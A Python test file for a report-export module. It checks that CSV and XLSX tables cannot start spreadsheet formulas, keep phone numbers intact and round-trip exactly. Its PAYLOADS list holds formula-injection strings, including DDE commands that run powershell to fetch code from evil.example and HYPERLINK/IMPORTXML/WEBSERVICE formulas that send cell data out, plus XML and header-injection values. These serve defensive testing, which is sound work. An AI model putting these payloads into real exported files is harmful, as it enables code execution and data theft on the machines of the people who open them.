"""A52: tables that are opened in a spreadsheet start no formula, lose no phone number, and come back as they were."""

import csv
import io
import re
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from collab.reports import tables
from collab.reports.tables import Column, csv_stream, file_name, guard, read_csv, restore, xlsx_stream

#: What is sent to portals so that somebody's spreadsheet does something.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1&A2,"Error: please click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("https://evil.example/")',
    "=2+5+cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    '";=1+1;"',
    "x;=1+1",
    'x;"=1+1',
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    ";;=1+1",
    'x","=1+1',
    'DDE("cmd";"/C calc";"!A0")A0',
    "%0A=1+1",
    # Some writers of workbooks take this for text they formatted themselves, and write it as it is.
    '<r></r></is></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="inlineStr"><is><r></r>',
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "_x003D_1+1",
]
PHONES = ["+49 30 1234567", "+8628-85422114", "+1 (412) 555-0100", "0086 28 8542 2114", "-5", "028-8542 2114"]
SIGNS = tuple("=+-@＝＋－＠")


def as_csv(columns: list[str], rows: list[list[Any]], **given: Any) -> bytes:
    return b"".join(csv_stream([Column(title) for title in columns], rows, **given))


def as_book(columns: list[str], rows: list[list[Any]], **given: Any) -> Any:
    content = b"".join(xlsx_stream([Column(title) for title in columns], rows, **given))
    return openpyxl.load_workbook(io.BytesIO(content))


def cells_of(content: bytes, delimiter: str) -> Iterator[str]:
    """What a spreadsheet that splits at this character has in its cells, quotes and blanks aside."""
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter):
        yield from row


@pytest.mark.parametrize("payload", [*PAYLOADS, *PHONES])
def test_a52_no_cell_of_a_csv_starts_a_formula(payload: str) -> None:
    content = as_csv([payload, "b"], [[payload, "x"], ["x", payload], [payload, payload]])
    for delimiter in ",;\t":  # however the reader splits
        for cell in cells_of(content, delimiter):
            start = cell.lstrip('"\u00a0\u3000\ufeff\u200b \t\r\n')
            assert not start.startswith(SIGNS), (delimiter, cell)


@pytest.mark.parametrize("payload", [*PAYLOADS, *PHONES])
def test_a52_what_a_csv_held_comes_back(payload: str) -> None:
    content = as_csv([payload], [[payload], ["plain"]])
    assert read_csv(content) == [[payload], [payload], ["plain"]]


@pytest.mark.parametrize("payload", [*PAYLOADS, *PHONES])
def test_a52_no_cell_of_a_workbook_is_a_formula(payload: str) -> None:
    content = b"".join(
        xlsx_stream([Column(payload), Column("b")], [[payload, "x"], ["x", payload]], sheet=payload)
    )
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert book.testzip() is None
        for name in book.namelist():
            tree = ET.fromstring(book.read(name))
            assert not [element for element in tree.iter() if element.tag.endswith("}f")], name
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 6
    assert all(cell.data_type == "s" for cell in cells)
    if not re.search(r"\r|_x", payload):  # openpyxl leaves these as they are in the file
        assert [cell.value for cell in cells] == [payload, "b", payload, "x", "x", payload]
    if guard(payload) != payload:
        assert all(cell.quotePrefix for cell in cells if cell.value == payload)


def test_a_text_is_only_changed_where_it_would_start_a_formula() -> None:
    for text in (
        "Bone imaging - a pilot study",
        "a=b",
        "x, y",
        "张伟",
        "O'Neill",
        "1-2",
        "5 + 3",
        "a@b.example",
    ):
        assert guard(text) == text
    assert guard("+49 30 1234567") == "'+49 30 1234567"


#: Texts full of what matters here.
odd = st.text(alphabet="=+-@'\";,\t\r\n ab1＝\u3000", max_size=12)


@given(odd | st.text(max_size=20))
@example("\n\r=")
@example(";'\n'=")
def test_guarding_is_undone_exactly(text: str) -> None:
    assert restore(guard(text)) == text
    for part in re.split("[;\t\r\n]", guard(text)):
        assert not part.lstrip('" \u3000\u00a0').startswith(SIGNS)


@given(st.lists(st.lists(odd, min_size=2, max_size=2), max_size=4))
def test_any_table_comes_back(rows: list[list[str]]) -> None:
    assert read_csv(as_csv(["=a", "b"], rows)) == [["=a", "b"], *rows]


def test_numbers_days_and_moments_are_what_they_are() -> None:
    moment = datetime(2026, 11, 2, 1, 30, 15, tzinfo=UTC)
    row = [-5, 2.5, Decimal("0.1"), True, date(2026, 11, 2), moment, None, "", float("nan")]
    columns = [f"c{number}" for number in range(len(row))]
    assert read_csv(as_csv(columns, [row], timezone="Asia/Shanghai"))[1] == [
        "-5", "2.5", "0.1", "TRUE", "2026-11-02", "2026-11-02 09:30:15", "", "", "",
    ]  # fmt: skip
    cells = list(as_book(columns, [row], timezone="Asia/Shanghai").active[2])
    assert [cell.value for cell in cells[:4]] == [-5, 2.5, 0.1, True]
    assert cells[4].value == datetime(2026, 11, 2)  # noqa: DTZ001
    assert cells[4].number_format == "yyyy\\-mm\\-dd"
    assert cells[5].value == datetime(2026, 11, 2, 9, 30, 15)  # noqa: DTZ001
    assert all(cell.value is None for cell in cells[6:])


def test_chinese_is_read_by_spreadsheets() -> None:
    content = as_csv(["受理编号"], [["核医学科"]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert "核医学科" in content.decode("utf-8")
    book = as_book(["受理编号"], [["核医学科"]], sheet="来函（申请）")
    assert book.sheetnames == ["来函 申请"]
    assert book.active["A1"].value == "受理编号"
    assert book.active["A2"].value == "核医学科"


def test_a_very_long_text_is_cut_where_a_cell_ends() -> None:
    cell = as_book(["a"], [["😀" * 20_000]]).active["A2"].value
    assert len(cell.encode("utf-16-le")) // 2 <= tables.LONGEST
    assert set(cell) == {"😀"}


def test_what_xml_cannot_hold_does_no_harm() -> None:
    assert (
        as_book(["a"], [["a\x00b\x0bc\ud800d\uffffe"]]).active["A2"].value == "a\ufffdb\ufffdc\ufffdd\ufffde"
    )
    assert "a" in read_csv(as_csv(["a"], [["a\ud800"]]))[1][0]


def test_more_rows_than_a_sheet_takes_go_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "ROWS_A_SHEET", 3)
    book = as_book(["n"], [[number] for number in range(7)], sheet="Inquiries")
    assert book.sheetnames == ["Inquiries", "Inquiries 2", "Inquiries 3"]
    values = [[cell.value for cell in sheet["A"]] for sheet in book]
    assert values == [["n", 0, 1, 2], ["n", 3, 4, 5], ["n", 6]]


def test_an_empty_table_is_its_header() -> None:
    assert read_csv(as_csv(["a", "b"], [])) == [["a", "b"]]
    assert [[cell.value for cell in row] for row in as_book(["a", "b"], []).active] == [["a", "b"]]


@pytest.mark.parametrize("stream", [csv_stream, xlsx_stream])
def test_memory_does_not_grow_with_the_rows(stream: Any) -> None:
    """The first pieces leave long before the last row is read, and nothing is kept."""
    read = 0

    def rows() -> Iterator[list[Any]]:
        nonlocal read
        for number in range(20_000):
            read = number
            yield [
                number,
                f"C-2026-{number:06d}",
                "A title that is not too short for a title",
                date(2026, 1, 1),
            ]

    columns = [Column("n"), Column("reference"), Column("title"), Column("day")]
    pieces = stream(columns, rows())
    next(pieces)
    assert read < 10_000
    tracemalloc.start()
    try:
        for _piece in pieces:
            pass
        most = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert most < 3_000_000


def test_a_files_name_holds_nothing_but_a_name() -> None:
    assert file_name("nuclear-medicine", "2026-01", ending="csv") == "nuclear-medicine-2026-01.csv"
    assert file_name('=cmd|"/../x\r\nSet-Cookie: a', "科室", ending="csv") == "cmd-x-Set-Cookie-a.csv"
    assert file_name("核医学", ending="xlsx") == "table.xlsx"
